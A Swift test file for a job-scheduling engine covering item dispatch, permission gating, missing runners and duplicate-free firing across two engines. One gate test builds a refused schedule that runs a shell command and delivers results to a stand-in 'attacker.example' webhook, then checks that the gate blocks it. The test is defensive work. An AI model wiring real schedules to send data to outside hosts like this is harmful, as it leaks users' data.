import Foundation
import PacerCore
import PacerEngine
import PacerStore
import PacerTesting
import Synchronization
import Testing

@Suite(.timeLimit(.minutes(1))) struct EngineDispatchTests {
    @Test func perItem_staticItems_oneRunPerItemWithItsKey() async throws {
        let h = try Harness()
        defer { Task { await h.close() } }
        let items: [JSONValue] = [.object(["id": .string("a"), "n": .number(1)]),
                                  .object(["id": .string("b"), "n": .number(2)]),
                                  .object(["id": .string("c"), "n": .number(3)])]
        let s = try await h.add("fan") { $0.dispatch = Dispatch(mode: .perItem, source: .static(items), itemKey: "id") }
        await h.advance(to: 60)
        await h.advance(to: 61)
        let calls = h.runner.recorded
        #expect(calls.compactMap(\.itemKey).sorted() == ["a", "b", "c"])
        #expect(calls.first { $0.itemKey == "b" }?.item == items[1])
        let runs = try await h.runs(s)
        #expect(runs.count == 4)
        #expect(runs.first { $0.itemKey == nil }?.output?.contains("3 item run(s) queued") == true)
        #expect(runs.allSatisfy { $0.status == .succeeded })
    }

    @Test func singleDispatchWithSource_requestSeesAllItems() async throws {
        let h = try Harness()
        defer { Task { await h.close() } }
        try await h.add("digest") { $0.dispatch = Dispatch(mode: .single, source: .static([.string("x"), .string("y")])) }
        await h.advance(to: 60)
        #expect(h.runner.recorded.first?.items == [.string("x"), .string("y")])
    }

    @Test func gate_refusesBeforeAnythingOfTheRunExecutes_itemSourceIncluded() async throws {
        struct OwnerGate: RunGate {
            func refusal(for schedule: Schedule) async -> RunOutcome? {
                schedule.owner == "writer" ? .failed("the owner may not run programs", failure: .permanent) : nil
            }
        }
        final class CountingReader: ItemReader, Sendable {
            let reads = Mutex(0)
            func items(from source: ItemSource) async throws -> [JSONValue] {
                reads.withLock { $0 += 1 }
                return [.object(["id": .string("a")])]
            }
        }
        final class CountingDeliverer: Deliverer, Sendable {
            let delivered = Mutex<[String]>([])
            func deliver(_ report: RunReport, to delivery: Delivery) async throws { delivered.withLock { $0.append(report.scheduleName) } }
        }
        let reader = CountingReader(), deliverer = CountingDeliverer()
        let h = try Harness(gate: OwnerGate(), items: reader, deliverer: deliverer)
        defer { Task { await h.close() } }
        let source = ItemSource.command(CommandItemSource(argv: ["/bin/sh", "-c", "echo '[{\"id\": \"a\"}]'"]))
        let refused = try await h.add("side-door") {
            $0.owner = "writer"
            $0.dispatch = Dispatch(mode: .perItem, source: source, itemKey: "id")
            $0.delivery = .webhook(WebhookDelivery(url: "https://attacker.example/"))
        }
        let allowed = try await h.add("admin-made") {
            $0.dispatch = Dispatch(mode: .perItem, source: source, itemKey: "id")
            $0.delivery = .webhook(WebhookDelivery(url: "https://hooks.example.com/"))
        }
        await h.advance(to: 60)
        await h.advance(to: 61)
        let runs = try await h.runs(refused)
        #expect(runs.count == 1)
        #expect(runs.first?.status == .failed && runs.first?.error == "the owner may not run programs")
        #expect(h.runner.recorded.allSatisfy { $0.scheduleID == allowed.id })
        #expect(reader.reads.withLock { $0 } == 1, "only the allowed schedule read its items")
        #expect(try await h.runs(allowed).count == 2)
        // A refused run has no result: its delivery is as refused as the rest of it. (Deliveries
        // run in the background: wait for the allowed schedule's, which started with it.)
        for _ in 0..<2000 where !deliverer.delivered.withLock({ $0.contains("admin-made") }) { await Task.yield() }
        #expect(deliverer.delivered.withLock { $0 }.contains("admin-made"))
        #expect(!deliverer.delivered.withLock { $0 }.contains("side-door"))
    }

    @Test func missingRunner_failsThePermanentlyWithAClearError() async throws {
        let h = try Harness()
        defer { Task { await h.close() } }
        let s = try await h.add("agent") { $0.target = .agent(AgentTarget(agent: "helper", prompt: "hi")) }
        await h.advance(to: 60)
        let runs = try await h.runs(s)
        #expect(runs.first?.status == .failed)
        #expect(runs.first?.error?.contains("no runner for agent targets") == true)
    }

    @Test func twoEngines_sameStore_fireEachInstantOnce() async throws {
        let h = try Harness()
        defer { Task { await h.close() } }
        var schedules: [Schedule] = []
        for i in 0..<20 { schedules.append(try await h.add("s\(i)", rule: "every 10s")) }
        let other = Harness.makeEngine(store: h.store, runner: h.runner, clock: h.clock, owner: "engine-2")
        for t in stride(from: 10.0, through: 100, by: 10) {
            h.clock.advance(to: Harness.t0.addingTimeInterval(t))
            async let a: Void = h.engine.settle()
            async let b: Void = other.settle()
            _ = await (a, b)
        }
        let calls = h.runner.recorded
        #expect(calls.count == 200)
        #expect(Set(calls.map { "\($0.scheduleID)@\($0.scheduledAt)" }).count == 200, "no instant ran twice")
    }
}
